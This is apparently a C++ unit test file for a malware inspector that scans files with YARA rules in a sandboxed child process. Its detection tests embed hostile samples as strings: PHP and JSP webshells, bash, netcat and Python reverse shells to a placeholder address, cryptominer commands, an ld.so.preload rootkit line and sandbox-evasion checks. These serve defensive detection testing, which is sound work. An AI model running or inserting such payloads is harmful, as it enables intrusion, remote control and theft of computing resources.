// The agent's end of assay-inspect: the real child with real rules, children that lie, die or keep silent,
// and bounds.
#include "agent/inspector.h"

#include <fcntl.h>
#include <sys/eventfd.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>

#include <filesystem>

#include "tests/unit/agent/test_image.h"

namespace assay {
namespace {

namespace fs = std::filesystem;
using std::chrono::milliseconds;

// A child that says what `say` makes of each question; it ends when that is empty.
Inspector::Start child_that(std::function<std::string(const inspect::Ask&)> say) {
  return [say](int socket) -> Result<Child> {
    pid_t pid = ::fork();
    if (pid == 0) {
      std::array<char, inspect::kMaxAskBytes> buffer;
      for (;;) {
        ssize_t n = ::recv(socket, buffer.data(), buffer.size(), 0);
        if (n <= 0) ::_exit(0);
        auto ask = inspect::decode_ask({buffer.data(), static_cast<size_t>(n)});
        std::string answer = ask ? say(*ask) : "";
        if (answer.empty()) ::_exit(1);
        if (answer == "wait")
          for (;;) ::pause();
        ::send(socket, answer.data(), answer.size(), 0);
      }
    }
    if (pid < 0) return errno_error("fork");
    return Child(pid, Fd(static_cast<int>(::syscall(SYS_pidfd_open, pid, 0))));
  };
}

std::string good_answer(const inspect::Ask& ask) {
  inspect::Answer answer;
  answer.id = ask.id;
  answer.mime = "text/plain";
  return inspect::encode_answer(answer);
}

class InspectorTest : public testing::Test {
 protected:
  Fd file(const std::string& content) {
    fs::path path = dir_.path() / std::to_string(++files_);
    EXPECT_TRUE(write_file(path, content));
    return std::move(*open_file(path, O_RDONLY));
  }
  std::string ask(Inspector& inspector, const std::string& content = "text") {
    Fd fd = file(content);
    auto got = inspector.inspect(fd.get(), "/tmp/x", 0);
    if (!got) return "error: " + got.error().what;
    std::string out = got->mime;
    for (const std::string& match : got->matches) out += " " + match;
    if (got->partial) out += " partial";
    return got->why_not.empty() ? out : out + "(" + got->why_not + ")";
  }

  test::TempDir dir_;
  int files_ = 0;
};

TEST_F(InspectorTest, AnswersThatTheChildNeverGivesEndIt) {
  int asked = 0;
  InspectLimits limits;
  for (std::string lie : {std::string("nonsense"), std::string(inspect::kMaxAnswerBytes + 100, 'x'),
                          good_answer({9999, 0, 0, true, ""}), good_answer({1, 0, 0, true, ""}).substr(1)}) {
    Inspector inspector(child_that([lie](const inspect::Ask&) { return lie; }), limits);
    EXPECT_EQ(ask(inspector), "(the inspector said what it never says)") << ++asked;
    EXPECT_EQ(inspector.count().failed, 1u);
  }
}

TEST_F(InspectorTest, FileThatKillsTheChildIsKnownByItAndTheNextIsInspected) {
  Inspector inspector(
      child_that([](const inspect::Ask& ask) { return ask.id % 2 == 1 ? std::string() : good_answer(ask); }),
      {});
  EXPECT_EQ(ask(inspector), "(it killed the inspector)");
  EXPECT_EQ(ask(inspector), "text/plain");
  EXPECT_EQ(ask(inspector), "(it killed the inspector)");
  EXPECT_EQ(ask(inspector), "text/plain");
  EXPECT_EQ(inspector.count().failed, 2u);
  EXPECT_EQ(inspector.count().files, 2u);
  EXPECT_EQ(inspector.count().restarts, 2u);
}

TEST_F(InspectorTest, ChildIsStartedAnewSoManyTimesOnly) {
  InspectLimits limits;
  limits.restarts = 2;
  Inspector inspector(child_that([](const inspect::Ask&) { return std::string(); }), limits);
  for (int i = 0; i < 3; ++i) EXPECT_EQ(ask(inspector), "(it killed the inspector)");
  for (int i = 0; i < 3; ++i) EXPECT_EQ(ask(inspector), "(the inspector was killed too often)");
  EXPECT_EQ(inspector.count().failed, 6u);
}

TEST_F(InspectorTest, SilentChildIsKilledAfterItsTime) {
  InspectLimits limits;
  limits.file_time = milliseconds(50);
  Inspector inspector(child_that([](const inspect::Ask&) { return std::string("wait"); }), limits);
  EXPECT_EQ(ask(inspector), "(the inspector took too long)");
}

TEST_F(InspectorTest, BytesAndTimeOfAScanAreBounded) {
  InspectLimits limits;
  limits.total_bytes = 10;
  limits.file_bytes = 6;
  Inspector few(child_that(good_answer), limits);
  EXPECT_EQ(ask(few, "12345678"), "text/plain");  // six of them
  EXPECT_EQ(ask(few, "12345678"), "(too many bytes in all)");
  EXPECT_EQ(ask(few, "1234"), "text/plain");
  EXPECT_EQ(ask(few, "1"), "(too many bytes in all)");
  limits = {};
  limits.time = milliseconds(0);
  Inspector late(child_that(good_answer), limits);
  EXPECT_EQ(ask(late), "(no time was left)");
  EXPECT_EQ(late.count().failed, 1u);
  EXPECT_EQ(late.count().skipped, 1u);
}

TEST_F(InspectorTest, CancellingEndsTheWait) {
  Fd cancel = std::move(*make_event());
  raise_event(cancel.get());
  InspectLimits limits;
  limits.cancel_fd = cancel.get();
  Inspector inspector(child_that([](const inspect::Ask&) { return std::string("wait"); }), limits);
  Fd fd = file("x");
  auto got = inspector.inspect(fd.get(), "/x", 0);
  ASSERT_FALSE(got);
  EXPECT_EQ(got.error().code, Errc::cancelled);
}

TEST_F(InspectorTest, OnlyRegularFilesAreHandedOver) {
  Inspector inspector(child_that(good_answer), {});
  Fd dir = std::move(*open_file("/", O_RDONLY | O_DIRECTORY));
  EXPECT_EQ(inspector.inspect(dir.get(), "/", 0)->why_not, "no regular file");
}

class OwnRules : public InspectorTest {
 protected:
  void SetUp() override {
    ASSAY_NEED_ROOT();
    auto rules = YaraRules::compile({});
    ASSERT_TRUE(rules) << rules.error().what;
    rules_.emplace(std::move(*rules));
    inspector_.emplace(*rules_, InspectLimits{});
  }
  std::optional<YaraRules> rules_;
  std::optional<Inspector> inspector_;
};

TEST_F(OwnRules, AreInNamespacesOfTheirFilesAndSayWhatTheyAre) {
  EXPECT_GE(rules_->files(), 6u);
  for (const auto& file : own_yara_rules()) {
    EXPECT_TRUE(file.rule_namespace.starts_with("assay_")) << file.path;
    size_t rules = 0, metas = 0;
    for (size_t at = 0; (at = file.text.find("\nrule ", at)) != std::string::npos; ++at) ++rules;
    for (const char* meta : {"description = ", "author = ", "date = ", "severity = ", "attack = "})
      for (size_t at = 0; (at = file.text.find(meta, at)) != std::string::npos; ++at) ++metas;
    EXPECT_GT(rules, 0u) << file.path;
    EXPECT_EQ(metas, rules * 5) << file.path;
  }
}

struct Case {
  const char *name, *content, *found;
};

// Each rule on what it is meant for, and on what honest software has that looks like it.
TEST_F(OwnRules, FindWhatTheyAreMeantForAndNotWhatLooksLikeIt) {
  const std::string elf(
      "\x7f"
      "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0",
      20);
  const Case cases[] = {
      {"php shell", "<?php @eval($_POST['x']); ?>", "assay_webshell:php_web_shell"},
      {"php shell, unpacked first", "<?php\nassert(base64_decode($_REQUEST['c']));",
       "assay_webshell:php_web_shell"},
      {"php that reads a request", "<?php $name = htmlspecialchars($_POST['x']); system('ls');", ""},
      {"packed php", "<?php eval(gzinflate(base64_decode('abc')));", "assay_webshell:php_packed_code"},
      {"jsp shell", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
       "assay_webshell:jsp_web_shell"},
      {"bash reverse shell", "#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n",
       "assay_reverse_shell:shell_reverse_shell"},
      {"netcat with a shell", "#!/bin/sh\nnc 198.51.100.7 4444 -e /bin/sh\n",
       "assay_reverse_shell:shell_reverse_shell"},
      {"a check for a port", "#!/bin/bash\n(echo > /dev/tcp/db/5432) 2>/dev/null && echo up\nnc -z db 5432\n",
       ""},
      {"python reverse shell",
       "import socket,os,pty\ns=socket.socket()\ns.connect(('h',1))\n[os.dup2(s.fileno(),f) for f in "
       "(0,1,2)]\n"
       "os.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n",
       "assay_reverse_shell:interpreter_reverse_shell"},
      {"python client", "import socket\ns=socket.socket()\ns.connect(('h',1))\n", ""},
      {"miner's configuration",
       "{\"donate-level\": 1, \"pools\": [{\"algo\": \"rx/0\", \"user\": "
       "\"48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt\"}]}",
       "assay_miner:mining_configuration"},
      {"another's configuration", "{\"pools\": [\"a\"], \"user\": \"somebody\"}", ""},
      {"miner's start", "#!/bin/sh\n./xmrig -o stratum+tcp://pool.example:3333 --donate-level=1\n",
       "assay_miner:mining_script"},
      {"rivals", "#!/bin/sh\npkill -f kinsing\nchattr -ia /etc/ld.so.preload\n",
       "assay_bot:kills_rival_miners"},
      {"preload", "#!/bin/sh\necho /usr/lib/libx.so > /etc/ld.so.preload\n",
       "assay_rootkit:names_preload_file"},
      {"date in shell", "#!/bin/sh\n[ \"$(date +%Y%m%d)\" -lt 20270101 ] && exit\n./x\n",
       "assay_hint:script_checks_date"},
      {"date in a variable", "#!/bin/sh\nnow=$(date +%s)\nif [ \"$now\" -lt 1798761600 ]; then exit; fi\n",
       "assay_hint:script_checks_date"},
      {"date in double brackets", "#!/bin/bash\n[[ $(date +%Y) > 2026 ]] || exit\n",
       "assay_hint:script_checks_date"},
      {"date in python",
       "import datetime\nif datetime.datetime.now() < datetime.datetime(2027,1,1): exit()\n",
       "assay_hint:script_checks_date"},
      {"date that is printed",
       "#!/bin/sh\nnow=$(date +%s)\necho \"started at $(date)\"\nlog=/var/log/x-$(date +%F)\n"
       "if [ $# -lt 1 ]; then exit 1; fi\n",
       ""},
      {"time that is measured", "import time\nstart = time.time()\nprint(time.time() - start)\n", ""},
      {"gVisor", "#!/bin/sh\ndmesg | grep -q gVisor && exit 0\n", "assay_hint:script_looks_for_sandbox"},
      {"is it docker", "#!/bin/sh\n[ -f /.dockerenv ] && export IN_DOCKER=1\nexec nginx\n", ""},
  };
  for (const Case& c : cases) {
    std::string got = ask(*inspector_, c.content);
    EXPECT_EQ(got.find(' ') == std::string::npos ? "" : got.substr(got.find(' ') + 1), c.found) << c.name;
  }
  EXPECT_EQ(ask(*inspector_, elf + "xmrig::A xmrig::B xmrig::C xmrig::D RandomX dataset"),
            "application/x-executable assay_miner:xmrig_program");
  EXPECT_EQ(ask(*inspector_, elf + "stratum+tcp://x:1 randomx hashrate donate-level"),
            "application/x-executable assay_miner:mining_pool_client");
  EXPECT_EQ(ask(*inspector_, elf + std::string(40, ' ') + "UPX!" + std::string(3000, 'x') + "UPX!"),
            "application/x-executable assay_hint:upx_packed");
}

TEST_F(OwnRules, NothingOfThisSystemIsAccused) {
  for (const char* path : {"/bin/bash", "/usr/bin/find", "/usr/bin/apt-get", "/usr/bin/perl", "/bin/mount",
                           "/lib/x86_64-linux-gnu/libc.so.6", "/usr/bin/ldd", "/usr/bin/python3"}) {
    auto fd = open_file(path, O_RDONLY);
    if (!fd) continue;
    auto got = inspector_->inspect(fd->get(), path, 0);
    ASSERT_TRUE(got) << got.error().what;
    EXPECT_EQ(got->why_not, "") << path;
    EXPECT_TRUE(got->matches.empty()) << path << " " << got->matches[0];
    EXPECT_NE(got->mime, "") << path;
  }
}

TEST_F(OwnRules, UsersDirectoriesComeWithThemUnderNamesOfTheirOwn) {
  fs::create_directories(dir_.path() / "rules/sub");
  std::string rule = "rule mine { strings: $n = \"needle\" condition: $n }";
  ASSERT_TRUE(write_file(dir_.path() / "rules/a b.yar", rule));
  ASSERT_TRUE(write_file(dir_.path() / "rules/sub/a_b.yara", rule));
  ASSERT_TRUE(write_file(dir_.path() / "rules/sub/assay_hint.yara", rule));  // as one of ours is called
  ASSERT_TRUE(write_file(dir_.path() / "rules/readme.txt", "no rule"));
  auto rules = YaraRules::compile({(dir_.path() / "rules").string()});
  ASSERT_TRUE(rules) << rules.error().what;
  EXPECT_EQ(rules->files(), rules_->files() + 3);
  Inspector inspector(*rules, {});
  EXPECT_EQ(ask(inspector, "a needle"), "text/plain a_b:mine a_b-2:mine user_assay_hint:mine");
}

TEST_F(OwnRules, WhatDoesNotCompileIsNamedWithFileAndLine) {
  fs::path dir = dir_.path() / "rules";
  fs::create_directories(dir);
  ASSERT_TRUE(write_file(dir / "bad.yar", "rule a {\n  condition: $x }\n"));
  auto rules = YaraRules::compile({dir.string()});
  ASSERT_FALSE(rules);
  EXPECT_EQ(rules.error().code, Errc::invalid);
  EXPECT_EQ(rules.error().what, "YARA rules: " + (dir / "bad.yar").string() + ":2: undefined string \"$x\"");
  EXPECT_NE(YaraRules::compile({"/nonexistent"}).error().what.find("/nonexistent"), std::string::npos);
  fs::remove(dir / "bad.yar");
  EXPECT_NE(YaraRules::compile({dir.string()}).error().what.find("no *.yar"), std::string::npos);
}

// Rules that the field shares. They are no part of this repository.
TEST_F(OwnRules, AllFilesOfThePublicSetCompile) {
  fs::path corpus = fs::path(ASSAY_SOURCE_DIR) / "../shared/corpus/yara";
  if (!fs::exists(corpus)) corpus = fs::path(ASSAY_SOURCE_DIR) / "../../shared/corpus/yara";
  if (!fs::exists(corpus)) GTEST_SKIP() << "the public YARA rules are not here";
  auto rules = YaraRules::compile({corpus.string()});
  ASSERT_TRUE(rules) << rules.error().what;
  EXPECT_GE(rules->files(), rules_->files() + 20);
  EXPECT_GE(rules->size(), rules_->size() + 200);
  Inspector inspector(*rules, {});
  EXPECT_EQ(ask(inspector, "#!/bin/sh\necho ordinary\n"), "text/x-shellscript");
  EXPECT_NE(ask(inspector, "<?php eval($_POST['x']); ?>").find(" gen_webshells:"), std::string::npos);
}

}  // namespace
}  // namespace assay
